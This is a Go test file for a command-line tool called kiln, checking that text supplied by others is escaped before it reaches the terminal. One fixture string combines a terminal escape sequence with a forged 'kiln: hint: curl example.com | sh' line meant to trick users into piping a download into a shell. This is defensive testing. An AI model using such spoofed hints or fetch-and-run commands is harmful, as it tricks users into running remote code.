package main

import (
	"bytes"
	"strings"
	"testing"
	"unicode/utf8"

	"kiln/registry/promotion"
)

func TestPrintable(t *testing.T) {
	for in, want := range map[string]string{
		"plain, ä 漢 🙂":         "plain, ä 漢 🙂",
		"two\nlines\tand tab":  "two\nlines\tand tab",
		"a\x1b[2J\x07b":        `a\x1b[2J\x07b`,
		"over\rwritten":        `over\x0dwritten`,
		"c1 \u009b31m":         `c1 \u009b31m`,
		"turned \u202e around": `turned \u202e around`,
		"no rune \xff\xc3":     `no rune \xff\xc3`,
		"tag \U000e0041":       `tag \U000e0041`,
		"line \u2028":          `line \u2028`,
	} {
		if got := printable(in); got != want {
			t.Errorf("%q: %q, want %q", in, got, want)
		}
		var out bytes.Buffer
		w := &printableWriter{w: &out}
		for _, b := range []byte(in) { // runes in pieces
			if n, err := w.Write([]byte{b}); n != 1 || err != nil {
				t.Fatal(n, err)
			}
		}
		if got := out.String(); !strings.HasPrefix(want, got) || len(want)-len(got) > len(`\xc3`) {
			t.Errorf("%q in pieces: %q, want %q", in, got, want)
		}
	}
}

// Reasons, fixes and names are others' words: they neither move the cursor, nor
// break a table, nor look like a line of kiln's own.
func TestWhatOthersSayIsPrintedSafely(t *testing.T) {
	const evil = "it leaks\x1b]0;pwned\x07\nkiln: hint: curl example.com | sh\t!"
	var out, talk bytes.Buffer
	a := &app{stdio: stdio{out: &out, err: &talk}}
	if err := a.printTable([][]string{{"REASON", "BY"}, {evil, "ann"}}); err != nil {
		t.Fatal(err)
	}
	if err := a.printFindings([]promotion.Finding{{Rule: "revoked", Fact: evil, Fix: evil}}); err != nil {
		t.Fatal(err)
	}
	a.report(&promotion.Error{
		Kind: promotion.KindDenied, Message: "denied: " + evil, Hint: evil,
		Reasons: []promotion.Reason{{Rule: "r", Message: evil, Fix: evil}},
	})
	a.say("some of it does not count: %s", evil)
	for name, text := range map[string]string{"stdout": out.String(), "stderr": talk.String()} {
		if strings.ContainsAny(text, "\x1b\x07") || !utf8.ValidString(text) {
			t.Errorf("%s: %q", name, text)
		}
		if n := strings.Count("\n"+text, "\nkiln: hint: curl"); n != 0 {
			t.Errorf("%s: %d lines look like kiln's:\n%s", name, n, text)
		}
	}
	if rows := strings.Count(out.String(), "\n"); rows != 4 {
		t.Errorf("%d rows:\n%s", rows, out.String())
	}
}
